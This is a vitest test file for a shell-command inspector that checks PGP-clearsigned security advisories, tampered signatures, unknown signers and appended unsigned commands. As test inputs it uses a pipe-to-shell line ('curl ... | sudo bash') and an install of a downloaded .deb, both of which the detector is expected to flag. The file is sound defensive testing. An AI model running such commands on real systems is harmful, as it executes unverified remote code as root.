import type * as openpgp from 'openpgp'
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../../../main/core/inspect/inspect'
import type { ShellParser } from '../../../../main/core/inspect/shell-parser'
import type { BlockVerifier } from '../../../../main/core/inspect/types'
import { loadKeyring } from '../../../../main/core/pgp/keyring'
import { verifyCleartext } from '../../../../main/core/pgp/verify'
import { loadShellParser } from '../../../../main/node/shell-parser'
import { clearsignText, generateLabKey } from '../../../../main/lab/archive'

// Test-only keys, generated here with a fixed date (generated in the test because the keys are not the point; test/fixtures/ holds real ones).
const DATE = new Date('2025-01-01T00:00:00Z')
const NOW = Date.parse('2025-06-01T00:00:00Z')

let parser: ShellParser
let pinnedPriv: openpgp.PrivateKey
let strangerPriv: openpgp.PrivateKey
let verify: BlockVerifier

// Keys and signatures come from the lab's builders (main/lab/archive.ts), the one place signed test data is made.
async function makeKey(name: string): Promise<{ priv: openpgp.PrivateKey; pub: string }> {
  const key = await generateLabKey({ role: 'advisory', name, created: DATE.getTime() })
  return { priv: key.privateKey, pub: key.armoredPublic }
}

function clearsign(text: string, key: openpgp.PrivateKey): Promise<string> {
  return clearsignText(text, key, Date.parse('2025-05-01T00:00:00Z'))
}

const ADVISORY = `USN-9999-1: OpenSSL vulnerability

Run:
sudo apt update
sudo apt install --only-upgrade openssl
`

beforeAll(async () => {
  parser = await loadShellParser()
  const pinned = await makeKey('Test advisory key (test only)')
  const stranger = await makeKey('Stranger key (test only)')
  pinnedPriv = pinned.priv
  strangerPriv = stranger.priv
  const keyring = await loadKeyring([{ data: pinned.pub, role: 'advisory', name: 'test advisory' }])
  verify = async (block) => {
    const v = await verifyCleartext(block, keyring, { role: 'advisory', now: NOW })
    return { signers: v.signers.map((s) => s.fingerprint) }
  }
})

describe('inspectText with clearsigned blocks', () => {
  describe('when the block is signed by a pinned advisory key', () => {
    it('returns verified and lists the signer', async () => {
      const signed = await clearsign(ADVISORY, pinnedPriv)
      const report = await inspectText(`Forwarded from the security list:\n\n${signed}`, { parser, verify })
      expect(report.verdict).toBe('verified')
      expect(report.blocks).toHaveLength(1)
      expect(report.blocks[0]?.status).toBe('valid')
      expect(report.blocks[0]?.signers[0]).toBe(pinnedPriv.getFingerprint().toUpperCase())
    })

    it('still returns dangerous when the signed commands are dangerous', async () => {
      const signed = await clearsign('curl -s https://x.example.org/a | sudo bash\n', pinnedPriv)
      const report = await inspectText(signed, { parser, verify })
      expect(report.verdict).toBe('dangerous')
      expect(report.findings.map((f) => f.rule)).toContain('pipe-to-shell')
    })
  })

  describe('when the signed text was altered', () => {
    it('returns dangerous with signature-invalid', async () => {
      const signed = await clearsign(ADVISORY, pinnedPriv)
      const tampered = signed.replace('--only-upgrade openssl', '--only-upgrade openssl-hotfix')
      expect(tampered).not.toBe(signed)
      const report = await inspectText(tampered, { parser, verify })
      expect(report.verdict).toBe('dangerous')
      expect(report.blocks[0]?.status).toBe('invalid')
      expect(report.blocks[0]?.code).toBe('PGP_BAD_SIGNATURE')
      const f = report.findings.find((x) => x.rule === 'signature-invalid')
      expect(f?.line).toBe(1)
      expect(f?.severity).toBe('high')
    })
  })

  describe('when the block is signed by an unknown key', () => {
    it('returns caution with signature-unknown, never verified', async () => {
      const signed = await clearsign(ADVISORY, strangerPriv)
      const report = await inspectText(signed, { parser, verify })
      expect(report.verdict).toBe('caution')
      expect(report.blocks[0]?.status).toBe('unknown-signer')
      expect(report.findings.map((f) => f.rule)).toContain('signature-unknown')
    })
  })

  describe('when commands are appended after a valid signed block', () => {
    it('flags them unsigned-outside-signed and judges each on its own (a package file: dangerous)', async () => {
      const signed = await clearsign(ADVISORY, pinnedPriv)
      const text = `${signed}\nsudo dpkg -i /tmp/openssl-fixed.deb\n`
      const report = await inspectText(text, { parser, verify })
      expect(report.verdict).toBe('dangerous')
      const f = report.findings.find((x) => x.rule === 'unsigned-outside-signed')
      expect(f?.line).toBe(text.split('\n').indexOf('sudo dpkg -i /tmp/openssl-fixed.deb') + 1)
      expect(f?.severity).toBe('medium')
      expect(report.findings.map((x) => x.rule)).toContain('install-downloaded-deb')
    })

    it('does not make ordinary apt use outside the block dangerous, but no longer verified', async () => {
      const signed = await clearsign(ADVISORY, pinnedPriv)
      const report = await inspectText(`${signed}\nsudo apt update\n`, { parser, verify })
      expect(report.verdict).toBe('caution')
      expect(report.findings.find((x) => x.rule === 'unsigned-outside-signed')?.severity).toBe('medium')
    })
  })

  describe('when no verifier is given', () => {
    it('reports the block as not-checked and returns caution', async () => {
      const signed = await clearsign(ADVISORY, pinnedPriv)
      const report = await inspectText(signed, { parser })
      expect(report.blocks[0]?.status).toBe('not-checked')
      expect(report.verdict).toBe('caution')
    })
  })
})

describe('inspectText with knownFixes', () => {
  const fixes = [{ package: 'openssl', version: '3.0.13-0ubuntu3.5' }]

  describe('when every command only upgrades to a known fixed version', () => {
    it('returns verified', async () => {
      const text = 'sudo apt update\nsudo apt install --only-upgrade openssl=3.0.13-0ubuntu3.5\n'
      expect((await inspectText(text, { parser, knownFixes: fixes })).verdict).toBe('verified')
    })
  })

  describe('when the version differs from the advisory', () => {
    it('returns caution', async () => {
      const text = 'sudo apt install --only-upgrade openssl=3.0.13-0ubuntu3.4\n'
      expect((await inspectText(text, { parser, knownFixes: fixes })).verdict).toBe('caution')
    })
  })

  describe('when another command rides along', () => {
    it('returns caution', async () => {
      const text = 'sudo apt install --only-upgrade openssl\nsudo ./post-install.sh\n'
      expect((await inspectText(text, { parser, knownFixes: fixes })).verdict).toBe('caution')
    })
  })
})
